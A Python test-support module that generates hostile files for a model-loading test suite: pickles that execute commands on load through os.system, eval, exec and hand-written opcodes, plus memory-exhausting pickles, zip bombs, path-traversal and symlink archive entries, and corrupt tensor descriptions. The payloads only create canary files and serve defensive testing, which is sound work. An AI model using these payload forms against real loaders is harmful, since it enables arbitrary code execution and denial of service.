"""Makes the hostile corpus and reads it in a child process. Not a test itself: see test_hostile_files.py."""

from __future__ import annotations

import io
import os
import pickle
import struct
import subprocess
import zlib
from dataclasses import dataclass
from pathlib import Path

import numpy as np

CANARIES = "canaries"


@dataclass(frozen=True)
class Case:
    """One hostile file or folder and the reader it is given to."""

    name: str
    reader: str
    path: str


# ---------------------------------------------------------------------------------------------- pickles


class Call:
    """Pickles as a call of `function(*args)`."""

    def __init__(self, function, *args):
        self.made = function, args

    def __reduce__(self):
        return self.made


def _touch(folder: Path, name: str) -> tuple[str, str]:
    """A shell command and Python code that leave a canary."""
    path = folder / CANARIES / name
    return f"touch '{path}'", f"open({str(path)!r}, 'w').close()"


def payloads(folder: Path) -> dict[str, bytes]:
    """Pickles that run code when `pickle.loads` reads them; each leaves a file of its own name."""
    import importlib

    from torch.utils import collect_env

    made: dict[str, bytes] = {}
    for protocol in range(6):

        def add(name, function, *args, _p=protocol):
            made[name] = pickle.dumps(Call(function, *args), _p)

        def touch(kind, _p=protocol):
            return f"{kind}-{_p}", *_touch(folder, f"{kind}-{_p}")

        name, command, code = touch("os.system")
        add(name, os.system, command)
        name, command, code = touch("eval")
        add(name, eval, code)
        name, command, code = touch("exec")
        add(name, exec, code)
        name, command, code = touch("collect_env")
        add(name, collect_env.run, command)
        name, command, code = touch("popen")
        add(name, subprocess.check_call, ["touch", command.split("'")[1]])
        name, command, code = touch("nested")
        add(name, pickle.loads, pickle.dumps(Call(exec, code)))
        name, command, code = touch("object-array")
        made[name] = pickle.dumps(np.array([Call(exec, code)], dtype=object), protocol)
        name, command, code = touch("inside-state-dict")
        made[name] = pickle.dumps({"weight": [1.0, Call(os.system, command)], "step": 3}, protocol)
    made["importlib"] = pickle.dumps(Call(importlib.import_module, "antigravity"), 2)
    made |= _raw_payloads(folder)
    return made


def _raw_payloads(folder: Path) -> dict[str, bytes]:
    """Opcodes that `pickle.dumps` does not choose by itself."""

    def text(value: str) -> bytes:
        return b"X" + struct.pack("<L", len(value.encode())) + value.encode()

    def command(name):
        return text(_touch(folder, name)[0])

    def line(name):
        return b"V" + _touch(folder, name)[0].encode() + b"\n"

    partial = b"cfunctools\npartial\ncbuiltins\nprint\n\x85R"
    return {
        "GLOBAL": b"\x80\x02cos\nsystem\n" + command("GLOBAL") + b"\x85R.",
        "STACK_GLOBAL": b"\x80\x04\x8c\x02os\x94\x8c\x06system\x94\x93" + command("STACK_GLOBAL") + b"\x85R.",
        "INST": b"(" + line("INST") + b"ios\nsystem\n.",
        "OBJ": b"(cos\nsystem\n" + line("OBJ") + b"o.",
        "NEWOBJ": b"\x80\x02csubprocess\nPopen\n)\x81}" + b"bcos\nsystem\n" + command("NEWOBJ") + b"\x85R.",
        "NEWOBJ_EX": b"\x80\x04cbuiltins\nobject\n)}\x920cos\nsystem\n" + command("NEWOBJ_EX") + b"\x85R.",
        "BUILD": b"\x80\x02" + partial + b"(cos\nsystem\n" + command("BUILD") + b"\x85}Nt" + b"b)R.",
        "EXT1": b"\x80\x02\x82\x42" + command("EXT1") + b"\x85R.",
        "EXT4": b"\x80\x02\x84\x42\0\0\0" + command("EXT4") + b"\x85R.",
        "memo": b"\x80\x02cos\nsystem\nq\0000" + command("memo") + b"q\1" + b"0h\0h\1\x85R.",
        "py2-name": b"\x80\x02c__builtin__\neval\n" + text(_touch(folder, "py2-name")[1]) + b"\x85R.",
        "dotted": b"\x80\x04\x8c\x02os\x8c\x0epath.os.system\x93" + command("dotted") + b"\x85R.",
    }


def greedy() -> dict[str, bytes]:
    """Pickles of a few kilobytes that ask for memory or time, most of them with harmless names only."""
    many = b"\x80\x02}(" + b"".join(
        b"\x8a\x0a" + (i * ((1 << 61) - 1)).to_bytes(10, "little") + b"N" for i in range(1, 9999)
    )
    double = b"\x80\x02)" + b"q\0h\0\x86" * 60
    return {
        "bytearray": b"\x80\x02cbuiltins\nbytearray\n\x8a\x05" + (10**11).to_bytes(5, "little") + b"\x85R.",
        "float-tensor": b"\x80\x02ctorch\nFloatTensor\n\x8a\x05" + (10**11).to_bytes(5, "little") + b"\x85R.",
        "long-text": b"\x80\x04\x8d" + struct.pack("<Q", 1 << 40) + b"x.",
        "long-bytes": b"\x80\x05\x8e" + struct.pack("<Q", 1 << 62) + b"x.",
        "long-bytearray": b"\x80\x05\x96" + struct.pack("<Q", 1 << 40) + b"x.",
        "long-memo": b"\x80\x02}r\xff\xff\xff\xff" + b"j\xfe\xff\xff\xff.",
        "colliding-keys": many + b"u.",
        "doubling-tuple": double + b".",
        "doubling-key": b"\x80\x02}" + double[2:] + b"Ns.",
        "many-nothings": b"\x80\x02(" + b"N" * 2_000_000 + b"l.",
        "many-dicts": b"\x80\x02](" + b"}" * 2_000_000 + b"e.",
        "deep-lists": b"\x80\x02" + b"]" * 100_000 + b"a" * 99_999 + b".",
        "marks": b"\x80\x02" + b"(" * 500_000 + b".",
        "holds-itself": b"\x80\x02]q\0h\0a.",
        "no-stop": b"\x80\x02}",
        "underflow": b"\x80\x02sss.",
        "protocol-99": b"\x80\x63}.",
        "empty-pickle": b"",
    }


# ---------------------------------------------------------------------------------------------- zip archives


@dataclass
class Forged:
    """One entry of a forged archive: what is stored, and what the headers say of it."""

    name: str
    data: bytes
    method: int = 0
    flags: int = 0
    size: int | None = None
    packed: int | None = None
    crc: int | None = None
    mode: int = 0
    local_name: str | None = None
    header: int | None = None
    copies: int = 1
    stored: bool = True


def forge(entries: list[Forged], *, comment: bytes = b"", count: int | None = None, shift: int = 0) -> bytes:
    """An archive whose headers say what they are told to."""
    out, central = io.BytesIO(), io.BytesIO()
    for e in entries:
        size = len(e.data) if e.size is None else e.size
        packed = len(e.data) if e.packed is None else e.packed
        crc = zlib.crc32(e.data) if e.crc is None else e.crc
        name, local = e.name.encode(), (e.name if e.local_name is None else e.local_name).encode()
        here = out.tell() if e.header is None else e.header
        if e.stored:
            fields = (20, e.flags, e.method, 0, 0, crc, packed, size, len(local), 0)
            out.write(struct.pack("<4s5H3L2H", b"PK\3\4", *fields) + local + e.data)
        for _ in range(e.copies):
            fields = (20, 20, e.flags, e.method, 0, 0, crc, packed, size, len(name), 0, 0, 0, 0, e.mode << 16, here)
            central.write(struct.pack("<4s6H3L5H2L", b"PK\1\2", *fields) + name)
    total = sum(e.copies for e in entries) if count is None else count
    place, length = out.tell() + shift, central.tell()
    end = b""
    if total > 0xFFFF:
        end = struct.pack("<4sQ2H2L4Q", b"PK\6\6", 44, 45, 45, 0, 0, total, total, length, place)
        end += struct.pack("<4sLQL", b"PK\6\7", 0, place + length, 1)
    few = min(total, 0xFFFF)
    end += struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, few, few, length, place, len(comment))
    return out.getvalue() + central.getvalue() + end + comment


def torch_zip(pickled: bytes, *more: Forged) -> bytes:
    """An archive as torch writes it, around any pickle."""
    named = {
        "data.pkl": pickled,
        "byteorder": b"little",
        "data/0": np.arange(16, dtype="<f4").tobytes(),
        "version": b"3\n",
    }
    return forge([Forged(f"archive/{name}", data) for name, data in named.items()] + list(more))


def tensor_pickle(
    shape="K\4K\4\x86", stride="K\4K\1\x86", offset="K\0", kind="FloatStorage", key="0", count="K\x10"
) -> bytes:
    """The pickle of {"w": tensor}, with any of its numbers replaced (each is a piece of pickle)."""

    def text(value):
        return b"X" + struct.pack("<L", len(value)) + value.encode()

    def number(value):
        return value.encode("latin-1")

    saved = text("storage") + b"ctorch\n" + kind.encode() + b"\n" + text(key) + text("cpu") + number(count) + b"tQ"
    call = b"ctorch._utils\n_rebuild_tensor_v2\n((" + saved + number(offset) + number(shape) + number(stride)
    return b"\x80\x02}" + text("w") + call + b"\x89ccollections\nOrderedDict\n)RtRs."


def _zeros(total: int) -> tuple[bytes, int]:
    """A raw deflate stream of `total` zero bytes (a multiple of 1 MiB) and their CRC-32, made without inflating."""
    squeeze = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = squeeze.compress(bytes(1 << 20)) + squeeze.flush(zlib.Z_FULL_FLUSH)
    crc, zeros = 0, bytes(1 << 20)
    for _ in range(total >> 20):
        crc = zlib.crc32(zeros, crc)
    return block * (total >> 20) + squeeze.flush(), crc


def zips() -> dict[str, bytes]:
    """Archives that lie."""
    good = tensor_pickle()
    bomb, crc = _zeros(1 << 30)
    entry = [Forged("archive/data.pkl", good), Forged("archive/data/0", np.arange(16, dtype="<f4").tobytes())]
    first, second = entry
    many = [Forged("archive/data.pkl", good), *(Forged(f"archive/data/{i}", b"") for i in range(100_000))]
    inner = forge([Forged("archive/data/1", b"x")])[: 30 + 14 + 1]  # the entry without its directory
    within = 30 + 16 + len(good) + 30 + 14
    huge = Forged("archive/data/0", b"", size=1 << 30, packed=1 << 30, crc=0)
    return {
        "deflate-bomb-tensor": torch_zip(good, Forged("archive/data/9", bomb, 8, size=1 << 30, crc=crc)),
        "deflate-bomb-pickle": forge([Forged("archive/data.pkl", bomb, 8, size=1 << 30, crc=crc), second]),
        "deflated-forged-size": forge([first, Forged("archive/data/0", bomb, 8, size=64, crc=0)]),
        "bzip2": forge([first, Forged("archive/data/0", b"BZh9", 12)]),
        "encrypted": forge([first, Forged("archive/data/0", second.data, flags=1)]),
        "unknown-flag": forge([first, Forged("archive/data/0", second.data, flags=1 << 13)]),
        "forged-size": forge([first, huge]),
        "two-sizes": forge([first, Forged("archive/data/0", second.data, size=32)]),
        "wrong-crc": forge([first, Forged("archive/data/0", second.data, crc=1)]),
        "wrong-crc-pickle": forge([Forged("archive/data.pkl", good, crc=1), second]),
        "duplicate": torch_zip(good, Forged("archive/data/0", b"\0" * 64)),
        "duplicate-pickle": torch_zip(good, Forged("archive/data.pkl", b"\x80\x02}.")),
        "one-entry-twice": forge([first, Forged("archive/data/0", second.data, copies=2)]),
        "overlap": forge([first, second, Forged("archive/data/1", b"x" * 8, header=0, local_name="archive/data.pkl")]),
        "overlap-quoted": forge(
            [first, Forged("archive/data/0", inner * 2), Forged("archive/data/1", b"x", header=within, stored=False)]
        ),
        "entries-1e5": forge(many),
        "entries-3e4-then-a-lie": forge([*many[:32_000], Forged("archive/data/x", b"x", crc=1)]),
        "many-claimed": forge(entry, count=60_000),
        "few-claimed": forge(entry, count=1),
        "dotdot": torch_zip(good, Forged("archive/../../evil", b"x")),
        "absolute": torch_zip(good, Forged("/archive/evil", b"x")),
        "backslash": torch_zip(good, Forged("archive\\..\\evil", b"x")),
        "zero-byte": torch_zip(good, Forged("archive/da\0ta", b"x")),
        "two-folders": torch_zip(good, Forged("other/data", b"x")),
        "symlink-entry": torch_zip(good, Forged("archive/link", b"/etc/passwd", mode=0o120777)),
        "folder-entry": torch_zip(good, Forged("archive/folder/", b"")),
        "two-names": torch_zip(good, Forged("archive/data/1", b"x", local_name="archive/data/2")),
        "comment": forge(entry, comment=b"PK\5\6"),
        "directory-elsewhere": forge(entry, shift=7),
        "no-pickle": forge([second]),
        "nested-zip": forge([Forged("archive/data.pkl", forge(entry)), second]),
        "torchscript": torch_zip(good, Forged("archive/constants.pkl", good)),
        "big-endian": forge([*entry, Forged("archive/byteorder", b"big")]),
        "bytes-behind": forge(entry) + b"\0",
        "bytes-between": forge(entry)[:-22] + b"PK\5\6" + forge(entry)[-22:],
        "bytes-before": b"MZ" + forge(entry),
        "only-end": forge([]),
    }


def tensor_lies() -> dict[str, bytes]:
    """Sound archives around pickles that describe impossible tensors."""
    big = "\x8a\x08" + "\xff" * 7 + "\x7f"
    return {
        "shape-beyond": tensor_pickle(shape="K\4K\5\x86"),
        "offset-beyond": tensor_pickle(offset="K\1"),
        "offset-negative": tensor_pickle(offset="J\xff\xff\xff\xff"),
        "stride-beyond": tensor_pickle(stride="K\5K\1\x86"),
        "stride-negative": tensor_pickle(stride="J\xfc\xff\xff\xffK\1\x86"),
        "shape-2^63": tensor_pickle(shape=f"{big}{big}\x86"),
        "shape-expanded": tensor_pickle(shape=f"{big}K\1\x86", stride="K\0K\0\x86"),
        "axes-differ": tensor_pickle(stride="K\1\x85"),
        "shape-text": tensor_pickle(shape="X\1\0\0\0a\x85", stride="K\1\x85"),
        "count-beyond": tensor_pickle(count="K\x11"),
        "wider-dtype": tensor_pickle(kind="DoubleStorage"),
        "no-storage": tensor_pickle(key="7"),
        "storage-outside": tensor_pickle(key="../data.pkl"),
        "quantized": tensor_pickle(kind="QInt8Storage"),
    }
